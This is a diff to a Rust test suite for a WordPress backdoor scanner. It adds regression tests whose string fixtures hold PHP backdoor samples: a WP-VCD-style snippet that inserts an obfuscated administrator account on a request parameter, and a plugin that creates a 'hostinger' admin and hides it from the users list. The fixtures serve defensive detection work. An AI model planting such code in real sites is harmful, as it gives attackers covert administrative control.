@@ -203,3 +203,27 @@ fn a_page_from_outside_wordpress_making_an_account_of_any_role_is_a_backdoor() {
     let plugin = "<?php function reg() { $id = wp_insert_user(array('user_login' => $_POST['u'], 'user_pass' => $_POST['p'], 'role' => 'subscriber')); }";
     assert!(found(plugin).is_empty());
 }
+
+#[test]
+fn an_administrators_row_inserted_when_a_request_asks_is_a_backdoor() {
+    // Regression: fresh113's WP-VCD `class.wp.php` writes user 1001010 and its administrator's
+    // role into the tables on `?awu`, each literal in escape codes.
+    let vcd = "<?php require $_SERVER['DOCUMENT_ROOT'] . '/wp-load.php'; $t = $wpdb->get_blog_prefix(); $s = \"a:1:{\\x73:13:\\\"administrator\\\";b:1;}\";\n\
+               if (isset($_GET['awu'])) { $wpdb->query(\"\\x49NSERT INTO $wpdb->users (`ID`, `user_login`, `user_pass`) VALUES ('1001010', '1001010', '\\$P\\$B3PJXeorEqVMl')\");\n\
+               $wpdb->query(\"INSERT INTO $wpdb->usermeta (`user_id`, `meta_key`, `meta_value`) VALUES ('1001010', '{$t}capabilities', '{$s}')\"); }";
+    assert_eq!(found(vcd), [(Why::AdminBackdoor, Danger::High)]);
+    // An installer behind the administrator's own check.
+    let installer =
+        vcd.replace("if (isset($_GET['awu']))", "if (current_user_can('manage_options') && isset($_GET['awu']))");
+    assert!(found(&installer).is_empty(), "{:?}", found(&installer));
+}
+
+#[test]
+fn a_fallback_administrator_kept_out_of_the_users_list_by_a_meta_query_is_hidden() {
+    // Regression: fresh119's "Security Measures" plugin makes `hostinger` and leaves users
+    // with its mark out of the users' list.
+    let plugin = "<?php add_action('init', function () { if (!username_exists('hostinger')) { $id = wp_create_user('hostinger', $pass, $mail);\n\
+                  wp_update_user(['ID' => $id, 'role' => 'administrator']); update_user_meta($id, 'is_fallback_admin', '1'); } });\n\
+                  add_filter('pre_get_users', function ($q) { $q->query_vars['meta_query'][] = ['key' => 'is_fallback_admin', 'compare' => 'NOT EXISTS']; return $q; });";
+    assert_eq!(found(plugin), [(Why::HiddenAdministrator, Danger::High)]);
+}
